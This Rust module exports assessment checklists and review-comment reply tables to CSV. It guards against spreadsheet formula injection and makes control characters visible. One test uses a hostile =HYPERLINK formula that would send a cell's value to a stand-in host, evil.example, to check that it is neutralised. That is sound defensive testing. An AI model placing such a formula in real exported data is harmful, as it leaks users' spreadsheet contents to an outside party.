//! CSV: one row per key question, in official order, for spreadsheets and scripts.
//!
//! RFC 4180 as the `csv` crate writes it: CRLF between records, a field quoted when it
//! holds a comma, a quote or a line break — so a multi-line answer stays one cell.

use ::csv::{Terminator, WriterBuilder};

use crate::i18n::Lang;
use crate::report::{FormReport, ReplyTable, words};
use crate::safe_text::visible;

/// The UTF-8 byte order mark: without it Excel reads UTF-8 CSV as the local code
/// page and shows Chinese as mojibake.
const BOM: &[u8] = b"\xEF\xBB\xBF";

/// Makes a cell safe to open in a spreadsheet (OWASP's advice on CSV injection): a
/// cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return would be
/// taken as a formula, so it gets a leading `'`, which spreadsheets show as text.
/// A cell that already begins with `'` gets one too, so the rule can be undone
/// exactly: [`restore`] gives back the original text.
pub fn neutralise(cell: &str) -> std::borrow::Cow<'_, str> {
    match cell.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r' | '\'') => format!("'{cell}").into(),
        _ => cell.into(),
    }
}

/// The text of a cell as dsw wrote it through [`neutralise`].
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(['=', '+', '-', '@', '\t', '\r', '\'']) => rest,
        _ => cell,
    }
}

/// The header row.
fn header(lang: Lang) -> [&'static str; 7] {
    match lang {
        Lang::Zh => [
            "指引",
            "檢核項目代碼",
            "檢核項目",
            "狀態",
            "關鍵問題代碼",
            "關鍵問題",
            "回答",
        ],
        Lang::En => [
            "guideline",
            "item_id",
            "item",
            "status",
            "question_id",
            "question",
            "answer",
        ],
    }
}

/// Renders one row per key question: guideline heading, item id, item text, item
/// status (未完成／部分完成／已完成／不適用 in Chinese, `todo|partial|done|na` in
/// English), question id, question text, answer. The item columns are empty for a
/// question under no item. With `bom` the output starts with the UTF-8 byte order
/// mark, for Excel.
pub fn questions(report: &FormReport, bom: bool) -> Vec<u8> {
    let start = if bom { BOM.to_vec() } else { Vec::new() };
    let writer = WriterBuilder::new()
        .terminator(Terminator::CRLF)
        .from_writer(start);
    let mut records = vec![header(report.lang).map(str::to_owned)];
    for group in &report.groups {
        for row in group.rows() {
            let Some(question) = row.question else {
                continue;
            };
            let (item_id, item_text, status) = row.item.map_or_else(Default::default, |item| {
                (
                    item.id.clone(),
                    item.text.clone(),
                    // Chinese headers get Chinese words; English keeps the ids scripts use.
                    match report.lang {
                        Lang::Zh => words::status(item.status, Lang::Zh),
                        Lang::En => item.status.as_str(),
                    }
                    .to_owned(),
                )
            });
            records.push([
                group.heading.clone(),
                item_id,
                item_text,
                status,
                question.id.clone(),
                question.text.clone(),
                question.answer.clone(),
            ]);
        }
    }
    written(writer, &records)
}

/// The reply table's header row.
fn reply_header(lang: Lang) -> [&'static str; 8] {
    match lang {
        Lang::Zh => [
            "編號",
            "狀態",
            "對象",
            "項目",
            "審查委員",
            "審查意見",
            "回覆說明",
            "修正情形",
        ],
        Lang::En => [
            "number",
            "standing",
            "target",
            "target_text",
            "reviewer",
            "comment",
            "reply",
            "revision",
        ],
    }
}

/// Renders a 審查意見回覆表 as one row per comment: number, standing (待回覆／再修正／
/// 已回覆／已變更／同意 in Chinese, `open|reopened|replied|changed|accepted` in
/// English), target as stored (`7.3.2`, `meta/plan` …), target in words, reviewer,
/// comment (with each reopening's reason on a line of its own, labelled), reply (replies written at once each on a line of its own, labelled), and
/// 修正情形 as `before → after` per changed field, 未修正, or empty for a comment on
/// the whole. Every cell is made visible and neutralised like the form's.
pub fn replies(table: &ReplyTable, bom: bool) -> Vec<u8> {
    let lang = table.lang;
    let start = if bom { BOM.to_vec() } else { Vec::new() };
    let writer = WriterBuilder::new()
        .terminator(Terminator::CRLF)
        .from_writer(start);
    let mut records = vec![reply_header(lang).map(str::to_owned)];
    for row in &table.rows {
        let comment = &row.comment;
        let replies = comment.replies(lang);
        let labelled = replies.len() > 1;
        let replies: Vec<String> = replies
            .into_iter()
            .map(|(label, reply)| match labelled {
                true => format!("{label}{}{}", lang.colon(), reply.text),
                false => reply.text.clone(),
            })
            .collect();
        // The comment, then why the reviewer asked for more, as the other formats
        // show it under the comment.
        let said = std::iter::once(comment.comment.text.clone())
            .chain(
                comment
                    .reopenings(lang)
                    .into_iter()
                    .map(|(label, note)| format!("{label}{}{note}", lang.colon())),
            )
            .collect::<Vec<_>>()
            .join("\n");
        records.push([
            row.number().to_string(),
            match lang {
                Lang::Zh => comment.standing.label(lang),
                Lang::En => comment.standing.as_str(),
            }
            .to_owned(),
            comment.target().to_string(),
            comment.target_text.clone(),
            comment.comment.reviewer.clone(),
            said,
            replies.join("\n"),
            table.fix_text(&row.fix),
        ]);
    }
    written(writer, &records)
}

/// `records` written as safe cells: control characters made visible, formulas
/// neutralised; line breaks kept, since quoting keeps them inside the cell.
fn written<const N: usize>(mut writer: csv::Writer<Vec<u8>>, records: &[[String; N]]) -> Vec<u8> {
    for record in records {
        let record = record
            .iter()
            .map(|field| neutralise(&visible(field, true)).into_owned());
        // Writing to memory cannot fail, and every record has the same fields.
        writer
            .write_record(record)
            .expect("writing CSV to memory cannot fail");
    }
    writer
        .into_inner()
        .expect("flushing CSV to memory cannot fail")
}

#[cfg(test)]
mod tests {
    use ::csv::{ReaderBuilder, StringRecord};

    use super::*;
    use crate::assessment::Assessment;
    use crate::export::sample::Sample;

    fn read(bytes: &[u8]) -> (StringRecord, Vec<StringRecord>) {
        let mut reader = ReaderBuilder::new().from_reader(bytes);
        let header = reader.headers().expect("header").clone();
        let rows = reader
            .records()
            .collect::<Result<Vec<_>, _>>()
            .expect("rows");
        (header, rows)
    }

    #[test]
    fn one_row_per_question_in_official_order_with_the_answer_intact() {
        let sample = Sample::new();
        let doc = sample.report(Lang::Zh);
        let bytes = questions(&doc, false);
        let (header, rows) = read(&bytes);
        assert_eq!(
            header.iter().collect::<Vec<_>>(),
            [
                "指引",
                "檢核項目代碼",
                "檢核項目",
                "狀態",
                "關鍵問題代碼",
                "關鍵問題",
                "回答"
            ]
        );
        assert_eq!(rows.len(), 16);
        let ids: Vec<&str> = rows.iter().map(|r| &r[4]).collect();
        let expected: Vec<&str> = sample
            .form()
            .questions()
            .map(|(_, _, q)| q.id.as_str())
            .collect();
        assert_eq!(ids, expected);
        let tricky = rows.iter().find(|r| &r[4] == "3.1.1").expect("3.1.1");
        assert_eq!(
            &tricky[6],
            visible(sample.assessment.answer("3.1.1"), true).as_ref()
        );
        assert_eq!(
            &tricky[6],
            "<b>粗體</b> & \"引號\" | 管線\n第二行␛[31m<U+202E>"
        );
        let heading = sample
            .catalog
            .guidelines
            .guideline("3")
            .expect("3")
            .heading();
        assert_eq!(&tricky[0], heading);
        let partial = rows.iter().find(|r| &r[4] == "2.1.1").expect("2.1.1");
        assert_eq!((&partial[1], &partial[3]), ("2.1", "部分完成"));
        let na = rows.iter().find(|r| &r[4] == "2.2.2").expect("2.2.2");
        assert_eq!(
            (&na[1], &na[2], &na[3]),
            ("2.2", "已建立跨機關協調與合作機制", "不適用")
        );
        // 13.0.1 belongs to no item: the item columns are empty.
        let loose = rows.iter().find(|r| &r[4] == "13.0.1").expect("13.0.1");
        assert_eq!((&loose[1], &loose[2], &loose[3]), ("", "", ""));
        assert!(!bytes.contains(&0x1b));
        assert!(bytes.windows(2).any(|w| w == b"\r\n"));
    }

    #[test]
    fn the_service_form_has_126_rows() {
        let catalog = crate::form::Catalog::bundled().expect("bundled");
        let form = &catalog.form("service").expect("service").form;
        let assessment = Assessment::from_example(form);
        let doc = FormReport::new(
            &assessment,
            form,
            &catalog.guidelines,
            &catalog.brics,
            None,
            Lang::En,
        );
        let (header, rows) = read(&questions(&doc, false));
        assert_eq!(
            header.iter().collect::<Vec<_>>(),
            [
                "guideline",
                "item_id",
                "item",
                "status",
                "question_id",
                "question",
                "answer"
            ]
        );
        assert_eq!(rows.len(), 126);
        assert!(rows.iter().all(|r| r.len() == 7));
        assert!(rows.iter().all(|r| &r[3] == "todo" || r[1].is_empty()));
    }

    #[test]
    fn cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised_and_restorable() {
        for text in [
            "=1+1", "+886", "-1", "@SUM(A1)", "\tx", "'=quoted", "'plain", "普通",
        ] {
            let cell = neutralise(text);
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell}"
            );
            assert_eq!(restore(&cell), text);
        }
        let catalog = crate::form::Catalog::bundled().expect("bundled");
        let form = &catalog.form("ict-plan").unwrap().form;
        let mut assessment = Assessment::new(form);
        let hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
        assessment.set_answer("1.1.1", hostile);
        let doc = FormReport::new(
            &assessment,
            form,
            &catalog.guidelines,
            &catalog.brics,
            None,
            Lang::Zh,
        );
        let (_, rows) = read(&questions(&doc, false));
        let cell = &rows[0][6];
        assert!(cell.starts_with("'=HYPERLINK"), "{cell}");
        assert_eq!(restore(cell), hostile);
    }

    #[test]
    fn byte_order_mark_only_when_asked() {
        let sample = Sample::new();
        let doc = sample.report(Lang::Zh);
        let with = questions(&doc, true);
        let without = questions(&doc, false);
        assert!(with.starts_with(BOM));
        assert!(!without.starts_with(BOM));
        assert_eq!(&with[BOM.len()..], &without[..]);
        assert!(without.starts_with("指引,".as_bytes()));
    }

    #[test]
    fn reply_table_is_one_row_per_comment_with_the_change_as_text() {
        let sample = Sample::new();
        let bytes = replies(&sample.replies(Lang::Zh), true);
        assert!(bytes.starts_with(BOM));
        let (header, rows) = read(&bytes[BOM.len()..]);
        assert_eq!(header.len(), 8);
        assert_eq!(rows.len(), 4);
        let first = &rows[0];
        assert_eq!(&first[0], "1");
        assert_eq!(&first[1], "已回覆");
        assert_eq!(&first[2], "3.1.1");
        // Formulas neutralised, controls visible, both replies labelled.
        assert!(first[5].starts_with("'=HYPERLINK"), "{first:?}");
        assert!(first[5].ends_with("␛[1m<U+202E>"), "{first:?}");
        assert_eq!(
            restore(&first[6]),
            "回覆（甲，2026-11-21）：@已改寫 <b>粗</b>␇\n回覆（乙，2026-11-21）：另一份回覆"
        );
        assert!(first[7].contains(" → <b>粗體</b>"), "{first:?}");
        assert_eq!(&rows[1][7], "狀態：已完成 → 部分完成");
        assert_eq!(&rows[2][7], "未修正");
        assert_eq!(&rows[3][7], "");
        assert_eq!(&rows[3][1], "再修正");
        // Why it was reopened is part of what the reviewer said.
        assert_eq!(
            &rows[3][5],
            "整體請再檢視\n再修正（王委員，2026-11-23）：錯字仍多"
        );
        let (header, rows) = read(&replies(&sample.replies(Lang::En), false));
        assert_eq!(&header[1], "standing");
        assert_eq!(&rows[0][1], "replied");
    }
}
